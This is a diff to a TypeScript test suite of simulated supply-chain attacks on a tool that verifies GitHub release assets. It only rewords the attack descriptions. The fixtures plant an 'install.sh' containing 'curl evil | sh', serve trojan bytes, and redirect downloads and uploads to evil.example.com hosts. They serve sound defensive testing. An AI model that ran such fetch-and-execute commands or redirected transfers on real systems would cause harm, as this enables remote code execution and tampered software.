@@ -115,7 +115,7 @@ export const API_ATTACKS: readonly Attack[] = [
     forAsset('app.tgz', { size: 3 })
   ),
   listing(
-    { does: 'states no digest and serves other bytes', answer: 'VERIFICATION_FAILED: file-changed' },
+    { does: 'states no digest and serves different content', answer: 'VERIFICATION_FAILED: file-changed' },
     forAsset('app.tgz', { digest: null, size: 'a trojan\n'.length }),
     world => put(world, 'app.tgz', 'a trojan\n')
   ),
@@ -141,15 +141,15 @@ export const API_ATTACKS: readonly Attack[] = [
     forAsset('tool.zip', { name: 'app.tgz' })
   ),
   listing(
-    { does: 'leaves an artifact out of the listing', answer: 'VERIFICATION_FAILED: checksums-incomplete' },
+    { does: 'omits an artifact from the listing', answer: 'VERIFICATION_FAILED: checksums-incomplete' },
     without('tool.zip', 'tool.zip.sig')
   ),
   listing(
     {
-      does: 'leaves an unsigned extra file out of the listing',
+      does: 'omits an unsigned extra file from the listing',
       answer: 'passes',
       instead:
-        'A closed world is as closed as the listing is true; deploy from output-directory, which has verified files only'
+        'A closed world depends on a correct listing; deploy from output-directory, which has verified files only'
     },
     without('install.sh'),
     world => put(world, 'install.sh', 'curl evil | sh\n')
@@ -171,7 +171,7 @@ export const API_ATTACKS: readonly Attack[] = [
   ),
   download(
     {
-      does: 'redirects downloads to a foreign host',
+      does: 'redirects downloads to another host',
       answer: 'passes',
       holds: 'The token is not sent there, and the bytes are judged by their signature'
     },
@@ -192,11 +192,11 @@ export const API_ATTACKS: readonly Attack[] = [
       headers: { location: 'http://evil.example.com/app.tgz' }
     })
   ),
-  upload('names a foreign host as upload_url', 'GITHUB_REFUSED', world =>
+  upload('names another host as upload_url', 'GITHUB_REFUSED', world =>
     uploadUrl(world, 'https://uploads.evil.example.com/assets{?name,label}')
   ),
-  upload('redirects an upload to a foreign host', 'GITHUB_REFUSED', world => world.github.redirectUploads(9)),
-  upload('stores other bytes than were sent, by its own digest', 'ASSET_WRONG', world =>
+  upload('redirects an upload to another host', 'GITHUB_REFUSED', world => world.github.redirectUploads(9)),
+  upload('stores different content than was sent, as its own digest shows', 'ASSET_WRONG', world =>
     world.github.lie({ kind: 'digest', asset: 'app.tgz.sig', digest: `sha256:${'0'.repeat(64)}`, times: 99 })
   ),
   {
@@ -209,7 +209,7 @@ export const API_ATTACKS: readonly Attack[] = [
   },
   {
     who: 'api',
-    does: 'is GITHUB_API_URL by https, a foreign host',
+    does: 'is GITHUB_API_URL by https, another host',
     given: 'verify',
     answer: 'GITHUB_ACCESS_DENIED',
     instead:
